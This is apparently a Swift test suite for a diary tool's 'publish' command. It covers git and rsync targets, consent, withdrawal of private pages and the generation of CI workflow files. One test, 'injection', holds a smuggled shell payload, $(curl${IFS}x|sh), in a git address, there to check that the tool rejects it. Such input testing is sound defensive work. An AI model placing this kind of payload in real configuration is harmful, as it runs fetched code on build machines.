import Foundation
import Outside
import TestSupport
import Testing

/// `daybook publish`, as somebody uses it: to real repositories and folders.
@Suite("Publishing from the terminal")
struct PublishCommandTests {
  /// A diary with targets.
  private static func diary(_ publish: String = "") throws -> Sandbox {
    let sandbox = try Sandbox.diary()
    try sandbox.write("data/daybook.yml", try sandbox.read("data/daybook.yml") + publish)
    return sandbox
  }

  private static func run(_ sandbox: Sandbox, _ arguments: String..., path: String = "/usr/bin:/bin") throws
    -> Program.Result
  {
    try Program.run(
      ["publish"] + arguments, in: sandbox.url,
      environment: ["HOME": sandbox.url.appendingPathComponent("me").path, "PATH": path])
  }

  private static func folder(_ sandbox: Sandbox) -> String { sandbox.url.appendingPathComponent("host").path }

  private static func toFolder() throws -> Sandbox {
    let sandbox = try Sandbox()
    let setting = "publish:\n  server: {rsync: \(folder(sandbox))}\n"
    try Fixture.diary.make(in: sandbox)
    try sandbox.write("data/daybook.yml", try sandbox.read("data/daybook.yml") + setting)
    return sandbox
  }

  @discardableResult
  private static func git(_ sandbox: Sandbox, _ arguments: String...) throws -> String {
    let result = try ExternalTool(named: "git").run(["-C", sandbox.url.path] + arguments, until: .now + .seconds(60))
    #expect(result.status == 0, "\(arguments): \(result.errors)")
    return result.output
  }

  private static func toBranch() throws -> Sandbox {
    let sandbox = try Sandbox()
    try Fixture.diary.make(in: sandbox)
    let address = sandbox.url.appendingPathComponent("site.git").path
    try sandbox.write(
      "data/daybook.yml", try sandbox.read("data/daybook.yml") + "publish:\n  pages: {git: \"\(address)\"}\n")
    try git(sandbox, "init", "--quiet", "--bare", "site.git")
    try agree(to: "git \(address) gh-pages", in: sandbox)
    return sandbox
  }

  /// Agrees to a target, to which nothing was published.
  private static func agree(to target: String, in sandbox: Sandbox) throws {
    try sandbox.write("me/.config/daybook/trusted-targets", target + "\n")
  }

  private static func published(_ sandbox: Sandbox) throws -> [String] {
    try git(sandbox, "--git-dir=site.git", "ls-tree", "-r", "--name-only", "gh-pages").split(separator: "\n")
      .map(String.init)
  }

  @Test("what is on the branch is the public edition, byte for byte, and of nothing else anything")
  func branch() throws {
    let sandbox = try Self.toBranch()
    let said = try Self.run(sandbox)
    #expect(said.status == 0, "\(said.errors)")
    #expect(said.output.hasPrefix("pages: "))
    try sandbox.daybook("build")
    let built = sandbox.files(below: "site/public")
    #expect(try Self.published(sandbox) == (built + [".nojekyll"]).sorted())
    try Self.git(sandbox, "clone", "--quiet", "--branch", "gh-pages", "site.git", "clone")
    for path in built { #expect(try sandbox.read("clone/" + path) == sandbox.read("site/public/" + path), "\(path)") }
    // What is for friends is on no page of it.
    for path in built where path.hasSuffix(".html") {
      #expect(try !sandbox.read("clone/" + path).contains("読書する"), "\(path)")
    }
    let again = try Self.run(sandbox)
    #expect(again.output.contains("are as they should be"), "\(again.output)")
  }

  @Test("what is withdrawn is named before, gone after, and nothing else is removed")
  func withdrawn() throws {
    let sandbox = try Self.toBranch()
    _ = try Self.run(sandbox)
    let before = try Self.published(sandbox)
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    let trial = try Self.run(sandbox, "--dry-run")
    #expect(trial.output.contains("first remove people/ana/run/index.html"), "\(trial.output)")
    #expect(try Self.published(sandbox) == before)
    let printed = try Self.run(sandbox, "--json").output
    let json = try JSON(printed)
    #expect(json.list("targets")?.first?.texts("withdrawn_files")?.contains("people/ana/run/index.html") == true)
    #expect(json.list("targets")?.first?.texts("removed_files") == [])
    #expect(printed.hasPrefix("{\n  \"ok\": true,\n  \"dry_run\": false"))
    let after = try Self.published(sandbox)
    #expect(Set(after).isSubset(of: before) && !after.contains { $0.hasPrefix("people/ana/run/") })
  }

  @Test(
    "a folder in the settings of a data folder needs somebody's consent, once, which no dry run gives",
    .enabled(if: ExternalTool.path(of: "rsync") != nil || Rounds.isThorough))
  func consent() throws {
    let sandbox = try Self.toFolder()
    let refused = try Self.run(sandbox)
    #expect(refused.status == 65 && refused.errors.contains("`server` is a folder of this machine"))
    #expect(!sandbox.exists("host") && !sandbox.exists("me/.local/state/daybook/publish"))
    #expect(try Self.run(sandbox, "--trust").status == 64)
    let trial = try Self.run(sandbox, "server", "--trust", "--dry-run")
    #expect(trial.status == 0 && trial.output.contains(" files to send "), "\(trial)")
    #expect(trial.output.contains("It needs your consent to this address before anything is sent."), "\(trial.output)")
    let printed = try Self.run(sandbox, "server", "--trust", "--dry-run", "--json").output
    #expect(try JSON(printed).list("targets")?.first?["needs_consent"] == "1")
    #expect(!sandbox.exists("host") && !sandbox.exists("me/.config"))
    #expect(try Self.run(sandbox).status == 65)
    #expect(try Self.run(sandbox, "server", "--trust").status == 0)
    let agreed = try Self.run(sandbox, "--dry-run")
    #expect(agreed.status == 0 && !agreed.output.contains("consent"), "\(agreed)")
    // Another address is another consent.
    try sandbox.write("data/daybook.yml", try sandbox.read("data/daybook.yml").replacing("/host}", with: "/hosted}"))
    #expect(try Self.run(sandbox, "--dry-run").status == 65)
  }

  @Test(
    "in and around what is private nothing is published, whoever agrees",
    arguments: ["", "/site", "/site/home/ana", "/site/public", "/data", "/data/x", "/link", "/me/.local/state"])
  func privateFolders(_ place: String) throws {
    let sandbox = try Self.toFolder()
    try sandbox.daybook("build")
    try FileManager.default.createSymbolicLink(
      atPath: sandbox.url.appendingPathComponent("link").path, withDestinationPath: "site")
    let path = sandbox.url.path + place
    try sandbox.write(
      "data/daybook.yml", try sandbox.read("data/daybook.yml").replacing(Self.folder(sandbox), with: path))
    let before = sandbox.files(below: "site") + sandbox.files(below: "data").filter { !$0.hasPrefix(".daybook") }
    let result = try Self.run(sandbox, "server", "--trust")
    #expect(result.status == 65 && result.errors.contains("what is private lies in"), "\(result.errors)")
    #expect(before == sandbox.files(below: "site") + sandbox.files(below: "data").filter { !$0.hasPrefix(".daybook") })
  }

  @Test("nothing is published of a folder that cannot be built, and no target is what is said where there is none")
  func broken() throws {
    let sandbox = try Self.diary("publish: {x: {rsync: \"example.invalid:/x\"}}\n")
    try sandbox.write(
      "data/daybook.yml", try sandbox.read("data/daybook.yml").replacing("timezone: UTC", with: "timezone: Mars"))
    let result = try Self.run(sandbox)
    #expect(result.status == 1 && result.errors.contains("nothing was published"), "\(result.errors)")
    let none = try Self.run(try Self.diary())
    #expect(none.status == 64 && none.errors.contains("nothing says where to publish to"))
    let unknown = try Self.run(try Self.diary("publish: {pages: {git: \"https://example.invalid/x\"}}\n"), "page")
    #expect(unknown.status == 64 && unknown.errors.contains("did you mean `pages`?"))
  }

  @Test("of somebody whose folder has errors the pages stay online, and that is said")
  func resting() throws {
    let sandbox = try Self.toBranch()
    try sandbox.write("data/people/ben/profile.yml", "name: Ben Okafor\nvisibility: public\n")
    try sandbox.write(
      "data/people/ben/habits/swim.md", "---\ntitle: Swim\nschedule: daily\nvisibility: public\n---\n")
    _ = try Self.run(sandbox)
    #expect(try Self.published(sandbox).contains("people/ben/index.html"))
    try sandbox.write("data/people/ben/habits/sew.md", "---\ntitle: Sew\nschedule: someday\n---\n")
    let result = try Self.run(sandbox)
    #expect(result.status == 1 && result.errors.contains("ben's pages are as they were"), "\(result.errors)")
    #expect(try Self.published(sandbox).contains("people/ben/index.html"))
  }

  @Test("once a day is enough, unless something was withdrawn")
  func daily() throws {
    let sandbox = try Self.toBranch()
    _ = try Self.run(sandbox, "--daily")
    let time = try Self.git(sandbox, "--git-dir=site.git", "log", "-1", "--format=%cI", "gh-pages")
    #expect(time == "2026-11-20T00:00:00+00:00\n")
    try done(sandbox, "done", "run", "7", "--on", "2026-11-20")
    let waiting = try Self.run(sandbox, "--daily")
    #expect(waiting.output.contains("has today's edition"), "\(waiting.output)")
    #expect(try Self.git(sandbox, "--git-dir=site.git", "rev-list", "--count", "gh-pages") == "1\n")
    #expect(try Self.run(sandbox, "--daily", "--today", "2026-11-21").output.contains("sent"))
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    #expect(try Self.run(sandbox, "--daily", "--today", "2026-11-21").output.contains("removed"))
    #expect(try !Self.published(sandbox).contains { $0.hasPrefix("people/ana/run/") })
  }

  @Test(
    "killed after any file, it leaves whole files there, and the next call leaves nothing that was withdrawn",
    .enabled(if: ExternalTool.path(of: "rsync") != nil || Rounds.isThorough), arguments: [1, 3, 6, 9])
  func killed(after count: Int) throws {
    let sandbox = try Self.toFolder()
    #expect(try Self.run(sandbox, "server", "--trust").status == 0)
    let old = Dictionary(
      uniqueKeysWithValues: try sandbox.files(below: "host").map { ($0, try sandbox.read("host/" + $0)) })
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    try done(sandbox, "habit", "edit", "read", "--visibility", "public")
    // In the place of rsync something that does so many files, one by one, and then kills who called it.
    let program = try #require(ExternalTool.path(of: "rsync"))
    try sandbox.write(
      "bin/rsync",
      """
      #!/bin/bash
      if [ "$1" = --dry-run ]; then exec \(program) "$@"; fi
      count=\(sandbox.url.path)/count
      left=$(cat "$count" 2>/dev/null || echo \(count))
      while IFS= read -r -d '' path; do
        if [ "$left" = 0 ]; then kill -9 $PPID; exit 1; fi
        printf '%s\\0' "$path" | \(program) "$@" 2>/dev/null
        left=$((left - 1))
        echo "$left" >"$count"
      done
      """)
    let file = sandbox.url.appendingPathComponent("bin/rsync").path
    try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: file)
    let killed = try Self.run(sandbox, path: sandbox.url.path + "/bin:/usr/bin:/bin")
    #expect(killed.status == 137, "\(killed)")
    let between = Dictionary(
      uniqueKeysWithValues: try sandbox.files(below: "host").map { ($0, try sandbox.read("host/" + $0)) })
    let next = try Self.run(sandbox)
    #expect(next.status == 0, "\(next.errors)")
    try sandbox.daybook("build", "--edition", "public")
    let new = Dictionary(
      uniqueKeysWithValues: try sandbox.files(below: "site/public").map { ($0, try sandbox.read("site/public/" + $0)) })
    for (path, text) in between { #expect(text == old[path] || text == new[path], "\(path)") }
    #expect(sandbox.files(below: "host") == new.keys.sorted())
    for (path, text) in new { #expect(try sandbox.read("host/" + path) == text, "\(path)") }
  }

  @Test("a host that goes away in the middle of withdrawing is told with what is still to be seen")
  func visible() throws {
    let sandbox = try Self.toFolder()
    #expect(try Self.run(sandbox, "server", "--trust").status == 0)
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    try sandbox.write("bin/rsync", "#!/bin/sh\necho 'rsync: connection unexpectedly closed' >&2\nexit 12\n")
    let file = sandbox.url.appendingPathComponent("bin/rsync").path
    try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: file)
    let path = sandbox.url.path + "/bin:/usr/bin:/bin"
    let said = try Self.run(sandbox, path: path)
    #expect(said.status == 74 && said.errors.contains("connection unexpectedly closed"))
    #expect(said.output.contains("withdrawn, and perhaps still to be seen there:\n"))
    #expect(said.output.contains("  people/ana/run/index.html\n"))
    let failed = try Self.run(sandbox, "--json", path: path)
    let printed = failed.output
    #expect(printed.contains("\"ok\": false") && failed.errors.contains("\"code\":\"not-published\""))
    let visible = try JSON(printed).list("targets")?.first?.texts("visible")
    #expect(visible?.contains("people/ana/run/index.html") == true)
  }

  @Test("a branch that cannot be reached is told with what is still to be seen on it, as far as this machine knows")
  func visibleOnBranch() throws {
    let sandbox = try Self.toBranch()
    _ = try Self.run(sandbox)
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    let trial = try Self.run(sandbox, "--dry-run")
    #expect(trial.output.contains("Everybody will see less of ana/run."), "\(trial.output)")
    try FileManager.default.removeItem(at: sandbox.url.appendingPathComponent("site.git"))
    let failed = try Self.run(sandbox)
    #expect(failed.status == 74 && failed.output.contains("withdrawn, and perhaps still to be seen there:\n"))
    for path in ["people/ana/run/index.html", "people/ana/index.html", "index.html"] {
      #expect(failed.output.contains("  \(path)\n"), "\(path): \(failed.output)")
    }
    #expect(!failed.output.contains("people/ana/call/index.html") && !failed.output.contains("assets/"))
  }

  @Test(
    "whoever ends it ends the program that sends, too, and is told what may still be seen",
    arguments: ["INT", "TERM", "HUP"])
  func ended(by signal: String) throws {
    let sandbox = try Self.toFolder()
    #expect(try Self.run(sandbox, "server", "--trust").status == 0)
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    try sandbox.write("bin/rsync", "#!/bin/sh\necho $$ >'\(sandbox.url.path)/sender'\nexec sleep 600\n")
    try sandbox.write(
      "end.sh",
      """
      '\(Program.url.path)' publish >said 2>&1 &
      while [ ! -s sender ]; do sleep 0.05; done
      kill -\(signal) $!
      wait $!
      echo "status $?"
      kill -0 "$(cat sender)" 2>/dev/null && echo "it goes on"
      cat said
      """)
    try FileManager.default.setAttributes(
      [.posixPermissions: 0o755], ofItemAtPath: sandbox.url.appendingPathComponent("bin/rsync").path)
    let said = try ExternalTool(
      at: "/bin/sh",
      environment: [
        "HOME": sandbox.url.appendingPathComponent("me").path, "PATH": sandbox.url.path + "/bin:/usr/bin:/bin",
      ], runningIn: sandbox.url.path
    ).run(["end.sh"], until: .now + .seconds(300))
    #expect(said.output.hasPrefix("status 74\n"), "\(said.output)")
    #expect(!said.output.contains("it goes on"))
    #expect(said.output.contains("withdrawn, and perhaps still to be seen there:"))
    #expect(said.output.contains("  people/ana/run/index.html"))
  }

  @Test(
    "what somebody else removed or changed at a host is noticed, and sent again",
    .enabled(if: ExternalTool.path(of: "rsync") != nil || Rounds.isThorough))
  func altered() throws {
    let sandbox = try Self.toFolder()
    // Nothing is above the folder, so that rsync could not make it: a dry run says so as the real one does.
    let above = sandbox.url.appendingPathComponent("above").path
    try sandbox.write(
      "data/daybook.yml", try sandbox.read("data/daybook.yml").replacing(Self.folder(sandbox), with: above + "/host"))
    for flags in [["--dry-run"], []] {
      let failed = try Program.run(
        ["publish", "server", "--trust"] + flags, in: sandbox.url,
        environment: ["HOME": sandbox.url.appendingPathComponent("me").path, "PATH": "/usr/bin:/bin"])
      #expect(failed.status == 74 && !failed.errors.contains("nothing, or not all") == (flags != []), "\(failed)")
    }
    try FileManager.default.createDirectory(atPath: above, withIntermediateDirectories: true)
    #expect(try Self.run(sandbox).status == 0)
    let page = try sandbox.read("above/host/people/ana/index.html")
    let files = sandbox.files(below: "above/host")
    // As long as it was, and written at a time of which nobody knows anything.
    try sandbox.write("above/host/people/ana/index.html", String(page.reversed()))
    try FileManager.default.removeItem(atPath: above + "/host/index.html")
    let trial = try Self.run(sandbox, "--dry-run")
    #expect(trial.output.contains("2 files to send") && !sandbox.exists("above/host/index.html"), "\(trial.output)")
    #expect(trial.output.contains("changed there by somebody else: index.html and people/ana/index.html."))
    let json = try JSON(try Self.run(sandbox, "--json").output).list("targets")?.first
    #expect(json?.texts("altered_files") == ["index.html", "people/ana/index.html"] && json?["compared"] == "1")
    #expect(try sandbox.read("above/host/people/ana/index.html") == page)
    #expect(try Self.run(sandbox).output == "server: all \(files.count) files are as they should be.\n")
    // The whole folder, and without looking.
    try FileManager.default.removeItem(atPath: above + "/host")
    #expect(try Self.run(sandbox).status == 0 && sandbox.files(below: "above/host") == files)
    try sandbox.write("above/host/people/ana/index.html", "theirs")
    let anew = try Self.run(sandbox, "--anew")
    #expect(anew.output.hasPrefix("server: \(files.count) files sent"), "\(anew.output)")
    #expect(try sandbox.read("above/host/people/ana/index.html") == page)
  }

  @Test("a host that lets nobody compare is sent what changed, and not said to be as it should be")
  func unseen() throws {
    let sandbox = try Self.toFolder()
    try sandbox.write(
      "bin/rsync",
      "#!/bin/sh\ncat >list\ncase $* in *--checksum*) if grep -q people list; then echo no >&2; exit 4; fi;; esac\n")
    try FileManager.default.setAttributes(
      [.posixPermissions: 0o755], ofItemAtPath: sandbox.url.appendingPathComponent("bin/rsync").path)
    let path = sandbox.url.path + "/bin:/usr/bin:/bin"
    #expect(try Self.run(sandbox, "server", "--trust", path: path).status == 0)
    let trial = try Self.run(sandbox, "--dry-run", path: path)
    #expect(trial.status == 0 && trial.output.contains("could not be compared: rsync: no."), "\(trial)")
    #expect(!trial.output.contains("as they should be"))
    let failed = try Self.run(sandbox, path: path)
    #expect(failed.status == 74 && failed.errors.contains("rsync: no"), "\(failed)")
    try done(sandbox, "done", "run", "7", "--on", "2026-11-20")
    let sent = try Self.run(sandbox, path: path)
    #expect(sent.status == 0 && sent.output.contains("could not be compared: rsync: no."), "\(sent)")
  }

  @Test("what means nothing in the settings is said where one publishes, too")
  func unknownKey() throws {
    let sandbox = try Self.toBranch()
    try sandbox.write(
      "data/daybook.yml", try sandbox.read("data/daybook.yml").replacing("site.git\"", with: "site.git\", brnch: main"))
    let result = try Self.run(sandbox, "--dry-run")
    #expect(result.status == 0 && result.errors.contains("`brnch`"), "\(result)")
  }

  @Test("a target to which nobody agreed does not keep the others from having their edition")
  func several() throws {
    let sandbox = try Self.toBranch()
    try sandbox.write(
      "data/daybook.yml", try sandbox.read("data/daybook.yml") + "  other: {rsync: \(Self.folder(sandbox))}\n")
    let result = try Self.run(sandbox, "--json")
    #expect(result.status == 65 && result.errors.contains("needs-consent"), "\(result)")
    let targets = try #require(try JSON(result.output).list("targets"))
    #expect(targets.map { $0["target"] } == ["pages", "other"] && targets.map { $0["ok"] } == ["1", "0"])
    #expect(try Self.published(sandbox).contains("index.html") && !sandbox.exists("host"))
  }

  // MARK: Clearing up

  @Test(
    "where something private lies, or somebody's account, nothing is cleared up",
    .enabled(if: ExternalTool.path(of: "rsync") != nil || Rounds.isThorough),
    arguments: ["daybook.yml", "old/people/ben/profile.yml", "home/ben/index.html", ".ssh/authorized_keys", ".bashrc"])
  func pruningPrivate(_ path: String) throws {
    let sandbox = try Self.toFolder()
    try sandbox.write("host/" + path, "private")
    try sandbox.write("host/old.html", "old")
    let result = try Self.run(sandbox, "server", "--trust", "--prune")
    #expect(result.status == 65 && result.errors.contains("the target holds "), "\(result.errors)")
    #expect(sandbox.files(below: "host") == [path, "old.html"].sorted())
  }

  @Test("at a place to which this machine never published, clearing up needs consent")
  func pruningUnknown() throws {
    let sandbox = try Self.diary("publish: {server: {rsync: \"example.invalid:.\"}}\n")
    try sandbox.write("bin/rsync", "#!/bin/sh\necho \"$@\" >>called\ncat >/dev/null\n")
    try FileManager.default.setAttributes(
      [.posixPermissions: 0o755], ofItemAtPath: sandbox.url.appendingPathComponent("bin/rsync").path)
    let path = sandbox.url.path + "/bin:/usr/bin:/bin"
    let refused = try Self.run(sandbox, "server", "--prune", path: path)
    #expect(refused.status == 65 && refused.errors.contains("to which this machine never published"))
    #expect(!sandbox.exists("called"))
    #expect(try Self.run(sandbox, "server", "--prune", "--dry-run", path: path).status == 0)
    #expect(try Self.run(sandbox, "server", path: path).status == 0)
    #expect(try Self.run(sandbox, "server", "--prune", path: path).status == 0)
    #expect(try sandbox.read("called").contains("--list-only"))
  }

  @Test(
    "a remote of rclone that leads to a folder of this machine is a folder of this machine",
    .enabled(if: ExternalTool.path(of: "rclone") != nil || Rounds.isThorough))
  func localRemotes() throws {
    let sandbox = try Self.diary("publish: {bucket: {rclone: \"store:\"}}\n")
    try sandbox.daybook("build")
    try sandbox.write(
      "me/.config/rclone/rclone.conf",
      "[disk]\ntype = local\n\n[store]\ntype = alias\nremote = disk:\(sandbox.url.path)/site\n")
    let refused = try Self.run(sandbox, "bucket")
    #expect(refused.status == 65 && refused.errors.contains("leads to a folder of this machine"), "\(refused.errors)")
    let agreed = try Self.run(sandbox, "bucket", "--trust")
    #expect(agreed.status == 65 && agreed.errors.contains("what is private lies in"), "\(agreed.errors)")
    try sandbox.write(
      "me/.config/rclone/rclone.conf",
      "[disk]\ntype = local\n\n[store]\ntype = alias\nremote = disk:\(sandbox.url.path)/host\n")
    #expect(try Self.run(sandbox, "bucket").status == 0)
    #expect(sandbox.exists("host/index.html"))
    try done(sandbox, "habit", "edit", "run", "--visibility", "private")
    #expect(try Self.run(sandbox, "bucket").status == 0)
    #expect(!sandbox.exists("host/people/ana/run/index.html"))
    // What somebody else did there is noticed by digests, and what is theirs stays.
    let page = try sandbox.read("host/people/ana/index.html")
    try sandbox.write("host/people/ana/index.html", String(page.reversed()))
    try FileManager.default.removeItem(at: sandbox.url.appendingPathComponent("host/index.html"))
    try sandbox.write("host/theirs.txt", "theirs")
    let said = try Self.run(sandbox, "bucket")
    #expect(said.output.contains("by somebody else: index.html and people/ana/index.html."), "\(said)")
    #expect(try sandbox.read("host/people/ana/index.html") == page && sandbox.exists("host/theirs.txt"))
    #expect(try Self.run(sandbox, "bucket").output.contains("are as they should be"))
    try sandbox.write("me/.config/rclone/rclone.conf", "[disk]\ntype = local\n")
    let gone = try Self.run(sandbox, "bucket", "--dry-run")
    #expect(gone.status == 74 && gone.errors.contains("`rclone config` makes the remote"), "\(gone)")
  }

  @Test("a branch whose history goes each time is named with that, and needs consent")
  func squash() throws {
    let sandbox = try Self.diary("publish: {pages: {git: \"https://example.invalid/x\", squash: true}}\n")
    let refused = try Self.run(sandbox)
    #expect(refused.status == 65 && refused.errors.contains("a branch whose history goes each time"))
    #expect(refused.errors.contains("https://example.invalid/x gh-pages squash"), "\(refused.errors)")
  }

  // MARK: On every push

  @Test(
    "the file for a forge is written once, in the repository of the data folder",
    arguments: ["github", "gitlab", "forgejo"])
  func workflows(_ forge: String) throws {
    let sandbox = try Self.diary("publish: {pages: {git: \"https://github.com/ana/site.git\"}}\n")
    try Self.git(sandbox, "init", "--quiet")
    let result = try Self.run(sandbox, "init", forge)
    #expect(result.status == 0, "\(result.errors)")
    #expect(result.output.contains("a host name of its own"))
    let path = [
      "github": ".github/workflows/publish.yml", "gitlab": ".gitlab-ci.yml",
      "forgejo": ".forgejo/workflows/publish.yml",
    ][forge]
    let text = try sandbox.read(try #require(path))
    #expect(text.contains("publish pages --data data"))
    #expect(text.contains("insteadOf") && text.contains("GIT_CONFIG_VALUE_0=https://github.com/"))
    // There is no key, and none is asked for.
    #expect(!text.contains("DAYBOOK_KEY"))
    #expect(try Self.run(sandbox, "init", forge).status == 73)
    #expect(try sandbox.read(try #require(path)) == text)
  }

  @Test(
    "where friends read, the file asks for the key, and it is said to whom that is never given",
    arguments: ["github", "forgejo"])
  func key(_ forge: String) throws {
    let sandbox = try Self.diary("publish: {pages: {git: \"https://github.com/ana/site.git\"}}\nsite_key: 0123abcd\n")
    try Self.git(sandbox, "init", "--quiet")
    let result = try Self.run(sandbox, "init", forge)
    #expect(result.status == 0, "\(result.errors)")
    #expect(result.output.replacing("\n", with: " ").contains("never to forks and pull requests"), "\(result.output)")
    let text = try sandbox.read(".\(forge)/workflows/publish.yml")
    #expect(text.contains("          DAYBOOK_KEY: ${{ secrets.DAYBOOK_KEY }}\n"))
    #expect(!text.contains("pull_request"))
  }

  @Test("to a place where a machine that begins with nothing removes nothing, no file publishes")
  func stepwise() throws {
    let sandbox = try Self.diary("publish: {server: {rsync: \"example.invalid:/x\"}, bucket: {rclone: \"r2:x\"}}\n")
    for name in ["server", "bucket"] {
      let result = try Self.run(sandbox, "init", "github", "--to", name)
      #expect(result.status == 65 && result.errors.contains("what you withdraw would stay online"), "\(result.errors)")
    }
    #expect(!sandbox.exists(".github"))
  }

  @Test("a repository on this machine gets into no file of a forge")
  func initLocal() throws {
    let sandbox = try Self.diary()
    let settings = try sandbox.read("data/daybook.yml")
    try sandbox.write("data/daybook.yml", settings + "publish: {pages: {git: \(sandbox.url.path)/site.git}}\n")
    let named = try Self.run(sandbox, "init", "github", "--to", "pages")
    #expect(named.status == 65 && named.errors.contains("where a forge does not come"), "\(named)")
    #expect(try Self.run(sandbox, "init", "github").status == 64)
    #expect(!sandbox.exists(".github"))
  }

  @Test("an address with a command in it gets into no file")
  func injection() throws {
    let sandbox = try Self.diary(
      "publish: {pages: {git: \"https://example.org:$(curl${IFS}x|sh)x/y.git\"}}\n")
    let result = try Self.run(sandbox, "init", "github")
    #expect(result.status == 1 && !sandbox.exists(".github"))
    #expect(result.errors.contains("signs that a shell would take"), "\(result.errors)")
  }

  @Test("without a target GitLab has pages of its own, and GitHub asks for one")
  func withoutTarget() throws {
    let sandbox = try Self.diary()
    #expect(try Self.run(sandbox, "init", "gitlab", "--json").output.contains("\"needs_token\": false"))
    #expect(try sandbox.read(".gitlab-ci.yml").contains("build --edition public"))
    #expect(try Self.run(sandbox, "init", "github").status == 64)
    #expect(try Self.run(sandbox, "init", "svn").status == 64)
  }
}
